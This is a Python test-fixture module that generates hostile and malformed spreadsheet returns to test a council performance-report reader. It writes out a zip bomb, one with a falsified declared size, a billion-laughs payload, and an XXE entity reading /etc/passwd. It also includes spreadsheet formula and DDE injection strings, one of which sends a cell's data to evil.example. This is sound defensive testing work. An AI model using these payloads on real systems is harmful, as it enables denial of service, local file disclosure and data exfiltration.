"""Generators for the hostile and broken returns of tests/test_hostile.py.

Every file is built by code in a temporary folder, from a real sample return, so nothing binary is
committed. Each generator writes one file (or a few) and returns its path. The base of the broken
and hostile returns is Adult Social Care's Q2 sample return (five indicators: 1.3, 1.4 and 2.2 are
Amber, 1.5 and 1.7 Green); the good returns put beside each one are Library and Resident Services
(2.3) and Waste and Environmental Services (4.3), so no indicator is given twice.

Each file is as small as the point it makes allows: the attacks go past the reader's limits
(rbwm_pmf.reading.xlsx.DEFAULT_LIMITS) by a clear margin, not by orders of magnitude, so they
are quick to make.
"""

from __future__ import annotations

import posixpath
import shutil
import struct
import zipfile
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import IO, Any
from xml.etree import ElementTree
from xml.sax.saxutils import escape

from msoffcrypto.format.ooxml import OOXMLFile
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from rbwm_pmf.reading.xlsx import DEFAULT_LIMITS
from rbwm_pmf.template import spec as layout
from tests.kit import SAMPLES, convert, fill, header_columns, row_of, templates

PERIOD = "2017-18-Q2"
Q2 = SAMPLES / "returns" / PERIOD
BASE_OWNER = "ASC"
BASE_INDICATORS = ("1.3", "1.4", "1.5", "1.7", "2.2")
GOOD_OWNERS = ("LIB", "WST")
GOOD_INDICATORS = {"LIB": "2.3", "WST": "4.3"}

NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
NS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NS_PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
WORKSHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
SST_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"

MiB = 1 << 20
Writer = Callable[[IO[bytes]], None]


def sample(owner: str) -> Path:
    """The Q2 sample return of an owner."""
    found = sorted(Q2.glob(f"{PERIOD}-{owner}-*.xlsx"))
    assert len(found) == 1, (owner, found)
    return found[0]


def base() -> Path:
    return sample(BASE_OWNER)


def copy_good(folder: Path) -> list[Path]:
    """Put the two good returns in `folder`; return their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    return [Path(shutil.copy(sample(owner), folder / sample(owner).name)) for owner in GOOD_OWNERS]


# -- zip surgery ------------------------------------------------------------------------------

def rebuild(
    src: Path,
    out: Path,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    stream: dict[str, Writer] | None = None,
    level: int = 6,
) -> Path:
    """Copy the archive `src` to `out`, replacing parts, adding parts, or streaming parts (a
    function that writes the part's bytes in chunks, so a huge part never sits in memory)."""
    replace, add, stream = replace or {}, add or {}, stream or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED,
                                                        compresslevel=level) as zout:
        for info in zin.infolist():
            name = info.filename
            if name in stream:
                with zout.open(name, "w") as fh:
                    stream[name](fh)
            else:
                zout.writestr(name, replace.get(name, zin.read(name)))
        for name, data in add.items():
            zout.writestr(name, data)
        for name, writer in stream.items():
            if name not in zin.namelist():
                with zout.open(name, "w") as fh:
                    writer(fh)
    return out


def read_part(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as zf:
        return zf.read(name)


def sheet_part(path: Path, sheet: str) -> str:
    """The archive part that holds a sheet, found from the workbook and its relationships."""
    wb = ElementTree.fromstring(read_part(path, "xl/workbook.xml"))
    rels = ElementTree.fromstring(read_part(path, "xl/_rels/workbook.xml.rels"))
    targets = {r.get("Id"): r.get("Target", "") for r in rels.iter(f"{{{NS_PKG}}}Relationship")}
    for el in wb.iter(f"{{{NS_MAIN}}}sheet"):
        if el.get("name") == sheet:
            target = targets[el.get(f"{{{NS_REL}}}id")]
            return target.lstrip("/") if target.startswith("/") else posixpath.normpath(
                posixpath.join("xl", target))
    raise KeyError(sheet)


def _with_shared_strings(src: Path, out: Path, sst: bytes) -> Path:
    """`src` with a shared string table `sst`, registered as Excel registers one."""
    types = read_part(src, "[Content_Types].xml").replace(
        b"</Types>", f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SST_TYPE}"/>'
                     "</Types>".encode())
    rels = read_part(src, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Id="rIdSST" Type="{NS_REL}/sharedStrings" Target="sharedStrings.xml"/>'
        "</Relationships>".encode())
    return rebuild(src, out, replace={"[Content_Types].xml": types,
                                      "xl/_rels/workbook.xml.rels": rels},
                   add={"xl/sharedStrings.xml": sst})


# -- archive and XML attacks ------------------------------------------------------------------

def zip_bomb(out: Path, unzipped: int = 10 * DEFAULT_LIMITS.max_part_bytes) -> Path:
    """The Return sheet of a real return with `unzipped` bytes of spaces inside sheetData.

    Deflate at level 9 packs a run of spaces about a thousand to one, so the file is well under
    a megabyte while its sheet unzips to 640 MiB: ten times the reader's limit for a part, and
    more than the 500 MB the attack tests allow a whole run. The part is streamed in 1 MiB
    chunks."""
    src = base()
    part = sheet_part(src, layout.RETURN_SHEET)
    head, sep, tail = read_part(src, part).partition(b"<sheetData>")
    assert sep

    def write(fh: IO[bytes]) -> None:
        fh.write(head + sep)
        chunk = b" " * MiB
        for _ in range(unzipped // MiB):
            fh.write(chunk)
        fh.write(tail)

    return rebuild(src, out, stream={part: write}, level=9)


def lying_zip_bomb(out: Path, bomb: Path, declared: int = 10_000) -> Path:
    """A zip bomb whose central directory says its sheet unzips to `declared` bytes: checks of
    the declared sizes pass, so the reader must not trust them while unzipping."""
    data = bytearray(bomb.read_bytes())
    with zipfile.ZipFile(bomb) as zf:
        big = max(zf.infolist(), key=lambda i: i.file_size)
        pos = zf.start_dir
    name = big.filename.encode()
    while data[pos:pos + 4] == b"PK\x01\x02":
        n, m, k = struct.unpack_from("<HHH", data, pos + 28)
        if bytes(data[pos + 46:pos + 46 + n]) == name:
            struct.pack_into("<I", data, pos + 24, declared)  # uncompressed size
            break
        pos += 46 + n + m + k
    else:
        raise AssertionError("central directory entry not found")
    out.write_bytes(bytes(data))
    with zipfile.ZipFile(out) as zf:
        assert zf.getinfo(big.filename).file_size == declared
    return out


def dense_cells(out: Path, rows: int = 25) -> Path:
    """`rows` rows under the table, each with a number in every column from I to XFD: 409,400
    cells (twice the reader's limit of 200,000 for a sheet) in a file of about 1 MB whose sheet
    unzips to about 10 MB, within the archive limits (under 64 MB and compressed only about 10
    to 1)."""
    src = base()
    part = sheet_part(src, layout.RETURN_SHEET)
    head, sep, tail = read_part(src, part).partition(b"</sheetData>")
    letters = [get_column_letter(c) for c in range(9, 16385)]

    def write(fh: IO[bytes]) -> None:
        fh.write(head)
        for r in range(11, 11 + rows):
            cells = "".join(f'<c r="{letter}{r}"><v>{r}</v></c>' for letter in letters)
            fh.write(f'<row r="{r}">{cells}</row>'.encode())
        fh.write(sep + tail)

    return rebuild(src, out, stream={part: write}, level=9)


def far_cell(out: Path) -> Path:
    """One text cell at XFD1048576, Excel's last cell, far outside the table (a 10 KB file)."""
    src = base()
    part = sheet_part(src, layout.RETURN_SHEET)
    xml = read_part(src, part).replace(b'<dimension ref="A1:H10" />',
                                       b'<dimension ref="A1:XFD1048576" />')
    xml = xml.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is>'
                                       b"<t>stray</t></is></c></row></sheetData>")
    return rebuild(src, out, replace={part: xml})


def billion_laughs(out: Path) -> Path:
    """A shared string table whose one string is ten nested entities: 10^9 'lol's."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
    sst = (f'<?xml version="1.0"?>\n<!DOCTYPE sst [\n{chr(10).join(entities)}\n]>\n'
           f'<sst xmlns="{NS_MAIN}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')
    return _with_shared_strings(base(), out, sst.encode())


def external_entity(out: Path, target: str = "file:///etc/passwd") -> Path:
    """A shared string table whose one string is the content of a local file (XXE)."""
    sst = (f'<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "{target}">]>\n'
           f'<sst xmlns="{NS_MAIN}" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>')
    return _with_shared_strings(base(), out, sst.encode())


def many_sheets(out: Path, count: int = DEFAULT_LIMITS.max_parts + 500) -> Path:
    """A real return with `count` extra tiny sheets, each its own part, registered properly
    (by default 500 parts more than the reader takes)."""
    src = base()
    empty = f'<worksheet xmlns="{NS_MAIN}"><sheetData/></worksheet>'.encode()
    sheets = "".join(f'<sheet name="Extra {n}" sheetId="{100 + n}" r:id="rIdX{n}"/>'
                     for n in range(count))
    rels = "".join(f'<Relationship Id="rIdX{n}" Type="{NS_REL}/worksheet" '
                   f'Target="worksheets/extra{n}.xml"/>' for n in range(count))
    types = "".join(f'<Override PartName="/xl/worksheets/extra{n}.xml" ContentType="{WORKSHEET_TYPE}"/>'
                    for n in range(count))
    replace = {
        "xl/workbook.xml": read_part(src, "xl/workbook.xml").replace(
            b"</sheets>", sheets.encode() + b"</sheets>"),
        "xl/_rels/workbook.xml.rels": read_part(src, "xl/_rels/workbook.xml.rels").replace(
            b"</Relationships>", rels.encode() + b"</Relationships>"),
        "[Content_Types].xml": read_part(src, "[Content_Types].xml").replace(
            b"</Types>", types.encode() + b"</Types>"),
    }
    add = {f"xl/worksheets/extra{n}.xml": empty for n in range(count)}
    return rebuild(src, out, replace=replace, add=add)


def styled_rows(out: Path, count: int = 2 * DEFAULT_LIMITS.max_rows) -> Path:
    """The Return sheet with `count` empty rows after the table, each styled (as when a whole
    block of rows is formatted), and a dimension that reaches the last of them (by default
    twice the rows the reader reads in a sheet)."""
    src = base()
    part = sheet_part(src, layout.RETURN_SHEET)
    xml = read_part(src, part)
    head, sep, tail = xml.partition(b"</sheetData>")
    assert sep
    first = 11  # the sample's table ends in row 10
    last = first + count - 1
    head = head.replace(b'<dimension ref="A1:H10" />', f'<dimension ref="A1:H{last}" />'.encode())

    def write(fh: IO[bytes]) -> None:
        fh.write(head)
        step = 10_000
        for start in range(first, last + 1, step):
            fh.write("".join(f'<row r="{r}" s="1" customFormat="1"/>'
                             for r in range(start, min(start + step, last + 1))).encode())
        fh.write(sep + tail)

    return rebuild(src, out, stream={part: write}, level=9)


# -- broken files -----------------------------------------------------------------------------

def truncated(out: Path) -> Path:
    data = base().read_bytes()
    out.write_bytes(data[: len(data) // 2])
    return out


def zero_bytes(out: Path) -> Path:
    out.write_bytes(b"")
    return out


def pdf_renamed(out: Path) -> Path:
    out.write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
                    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
                    b"trailer << /Root 1 0 R >>\n%%EOF\n")
    return out


def csv_renamed(out: Path) -> Path:
    out.write_text("Indicator ID,Indicator,Actual,Commentary\n1.3,Care package reviews,77.5,Up\n"
                   "1.4,Still at home after reablement,82.9,Down\n", "utf-8")
    return out


def _edit(out: Path, change: Callable[[Any], None], src: Path | None = None) -> Path:
    """Open a return with openpyxl, change it and save it as `out` (an owner using Excel)."""
    wb = load_workbook(src or base())
    change(wb)
    wb.save(out)
    return out


def return_sheet_deleted(out: Path) -> Path:
    def change(wb: Any) -> None:
        del wb[layout.RETURN_SHEET]
        wb.active = 0
    return _edit(out, change)


def return_sheet_renamed(out: Path, name: str = "Q2 return") -> Path:
    def change(wb: Any) -> None:
        wb[layout.RETURN_SHEET].title = name
    return _edit(out, change)


def header_renamed(out: Path, label: str = layout.ACTUAL, new: str = "Q2 value") -> Path:
    def change(wb: Any) -> None:
        ws = wb[layout.RETURN_SHEET]
        row, cols = header_columns(ws)
        ws.cell(row, cols[label]).value = new
    return _edit(out, change)


def headers_swapped(out: Path, first: str = layout.TARGET, second: str = layout.ACTUAL) -> Path:
    """Two template columns swapped, header and every cell with its number format."""
    def change(wb: Any) -> None:
        ws = wb[layout.RETURN_SHEET]
        row, cols = header_columns(ws)
        a, b = cols[first], cols[second]
        for r in range(row, ws.max_row + 1):
            x, y = ws.cell(r, a), ws.cell(r, b)
            (x.value, y.value) = (y.value, x.value)
            (x.number_format, y.number_format) = (y.number_format, x.number_format)
    return _edit(out, change)


def metadata_removed(out: Path) -> Path:
    def change(wb: Any) -> None:
        del wb[layout.META_SHEET]
    return _edit(out, change)


def other_framework(out: Path, framework_id: str = "other-council-2017-18") -> Path:
    def change(wb: Any) -> None:
        ws = wb[layout.META_SHEET]
        for row in ws.iter_rows(min_col=1, max_col=2):
            if row[0].value == "framework_id":
                row[1].value = framework_id
                return
        raise AssertionError("no framework_id in the metadata")
    return _edit(out, change)


def other_period(out: Path, work: Path, period: str = "2017-18-Q3") -> Path:
    """The owner's template of another period, filled in properly."""
    template = templates(work, period)[BASE_OWNER]
    return fill(template, {"1.3": (78.0, "Improving.", "Reviews booked."),
                           "1.4": (86.0, "On target.", ""), "1.5": (540, "On target.", ""),
                           "1.7": (4.2, "On target.", ""), "2.2": (96.0, "On target.", "")}, out)


def encrypted(out: Path, password: str = "pw") -> Path:
    with base().open("rb") as src, out.open("wb") as dst:
        OOXMLFile(src).encrypt(password, dst)
    return out


def xlsm_renamed(out: Path) -> Path:
    assert out.suffix == ".xlsm"
    shutil.copy(base(), out)
    return out


def vba_added(out: Path) -> Path:
    """An .xlsx name around an archive that carries a macro project."""
    return rebuild(base(), out, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" +
                                     b"\x00" * 504})


def converted(fmt: str, out_dir: Path, src: Path | None = None) -> Path:
    """The return saved by LibreOffice as `fmt` (xls, ods, xlsx) into `out_dir`."""
    (out,) = convert([src or base()], fmt, out_dir)
    return out


def formula_no_result(out: Path, formulas: dict[str, str] | None = None) -> Path:
    """Actual cells holding formulas with no saved result, as a script writes them."""
    formulas = formulas or {"1.3": "=0.775", "1.5": "=500+41"}

    def change(wb: Any) -> None:
        ws = wb[layout.RETURN_SHEET]
        _, cols = header_columns(ws)
        for ind, formula in formulas.items():
            ws.cell(row_of(ws, ind), cols[layout.ACTUAL]).value = formula
    return _edit(out, change)


# -- hostile content --------------------------------------------------------------------------

# Text that a spreadsheet could take for a formula, a DDE command or a link.
FORMULA_TEXT = (
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "http://x",
    "=cmd|' /C calc'!A0",
    "mailto:someone@evil.example",
    "\t=1+1",
)


def set_text(out: Path, texts: dict[tuple[str, str], str], src: Path | None = None) -> Path:
    """Type text into cells (indicator id, column label) as text, never as a formula: what an
    owner gets by typing an apostrophe first, or a script by writing a string cell."""
    def change(wb: Any) -> None:
        ws = wb[layout.RETURN_SHEET]
        _, cols = header_columns(ws)
        for (ind, label), text in texts.items():
            cell = ws.cell(row_of(ws, ind), cols[label])
            cell.value = text
            cell.data_type = "s"
    return _edit(out, change, src)


def formula_text(out: Path) -> tuple[Path, dict[tuple[str, str], str]]:
    """Formula- and link-like text in Commentary and Mitigation actions of every row, and in
    the Indicator name of one."""
    texts: dict[tuple[str, str], str] = {}
    n = 0
    for ind in BASE_INDICATORS:
        for label in (layout.COMMENTARY, layout.MITIGATION):
            texts[(ind, label)] = FORMULA_TEXT[n % len(FORMULA_TEXT)]
            n += 1
    texts[("1.5", layout.NAME)] = '=HYPERLINK("http://evil.example","Permanent admissions")'
    return set_text(out, texts), texts


def long_text(length: int = 100_000) -> str:
    sentence = "Reviews are behind plan because two posts were vacant over the summer. "
    return (sentence * (length // len(sentence) + 1))[: length - 1] + "."  # no trailing space


def long_commentary(out: Path, length: int = 100_000) -> Path:
    """A 100,000-character Commentary as an inline string. Excel types at most 32,767 and
    openpyxl cuts there too, so the text goes into the sheet's XML directly."""
    set_text(out, {("1.3", layout.COMMENTARY): MARKER})
    return _swap_marker(out, MARKER, escape(long_text(length)).encode())


CONTROL_AND_EMOJI = (
    "Tab\there; line\nbreak; zero\u200bwidth; BOM\ufeff; no-break\u00a0space; "
    "emoji 😀👍🏽; family 👨‍👩‍👧‍👦; flag 🇬🇧; maths 𝔸𝔹; end"
)


def control_and_emoji(out: Path) -> Path:
    return set_text(out, {("1.3", layout.COMMENTARY): CONTROL_AND_EMOJI,
                          ("1.3", layout.MITIGATION): "Plan 📋\r\nsecond line"})


def _swap_marker(out: Path, marker: str, raw: bytes) -> Path:
    """Replace a marker typed in the Return sheet with raw bytes, after openpyxl has saved."""
    part = sheet_part(out, layout.RETURN_SHEET)
    xml = read_part(out, part)
    assert marker.encode() in xml
    tmp = out.with_name(out.stem + ".tmp.xlsx")
    rebuild(out, tmp, replace={part: xml.replace(marker.encode(), raw)})
    tmp.replace(out)
    return out


# Excel writes a control character as _xHHHH_ in the file, and a typed "_x0041_" as
# _x005F_x0041_ (the escape of '_' followed by the rest); openpyxl cannot write either.
MARKER = "ZZMARKERZZ"
ESCAPED = b"_x0007__x001F__x005F_x0041_"
ESCAPES_MEAN = "escapes \x07\x1f_x0041_; end"


def excel_escapes(out: Path) -> Path:
    set_text(out, {("1.3", layout.COMMENTARY): f"escapes {MARKER}; end"})
    return _swap_marker(out, MARKER, ESCAPED)


def illegal_xml_character(out: Path) -> Path:
    """A raw control byte in the sheet's XML, which XML 1.0 does not allow (Excel would call
    the file damaged)."""
    set_text(out, {("1.3", layout.COMMENTARY): f"bell {MARKER} here"})
    return _swap_marker(out, MARKER, b"\x01")


RTL_TEXT = {
    ("1.3", layout.COMMENTARY): "تحسن الأداء خلال الربع الثاني بنسبة ٣٫٥٪ مقارنة بالربع الأول.",
    ("1.3", layout.MITIGATION): "צוות הבדיקות ישלים את 118 הבדיקות שנותרו עד 31 בדצמבר 2017.",
    ("1.4", layout.COMMENTARY): "Mixed: \u202bعربي\u202c then English, \u200fRLM\u200e and an "
                                "override \u202etxt.exe\u202c.",
    ("1.4", layout.MITIGATION): "\u05e9\u05dc\u05d5\u05dd (Hebrew) and \u0633\u0644\u0627\u0645 (Arabic).",
}


def rtl(out: Path) -> Path:
    return set_text(out, RTL_TEXT)


ODD_FILE_NAME = "O'Brien \"final\" 日本.xlsx"
FORMULA_FILE_NAME = "=HYPERLINK(\"http:evil\") +1 @SUM(A1) -2.xlsx"
ODD_SHEETS = ("Bob's \"notes\"", "ملاحظات", "Ünïcødé & <tags>")


def odd_names(folder: Path, name: str = ODD_FILE_NAME) -> Path:
    """A good return under a file name with quotes, an apostrophe, spaces and Japanese, with
    extra sheets named with quotes, Arabic letters and XML-like characters."""
    def change(wb: Any) -> None:
        for name in ODD_SHEETS:
            ws = wb.create_sheet(name)
            ws["A1"] = "Notes that are not part of the return."
    return _edit(folder / name, change)


def duplicate(folder: Path) -> tuple[Path, Path]:
    """The same return twice under two names, as when an attachment is saved twice."""
    first = Path(shutil.copy(base(), folder / "asc.xlsx"))
    second = Path(shutil.copy(base(), folder / "asc (1).xlsx"))
    return first, second


def other_owners_row(out: Path, indicator: str = "4.3", owner: str = "WST") -> Path:
    """A row of another owner's indicator pasted under the table, with a value."""
    other = load_workbook(sample(owner))[layout.RETURN_SHEET]
    o_row = row_of(other, indicator)
    _, o_cols = header_columns(other)

    def change(wb: Any) -> None:
        ws = wb[layout.RETURN_SHEET]
        _, cols = header_columns(ws)
        last = max(row_of(ws, ind) for ind in BASE_INDICATORS)
        for label, col in cols.items():
            src = other.cell(o_row, o_cols[label])
            dst = ws.cell(last + 1, col)
            dst.value = src.value
            dst.number_format = src.number_format
    return _edit(out, change)


def all_files(folder: Path) -> Iterable[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file())
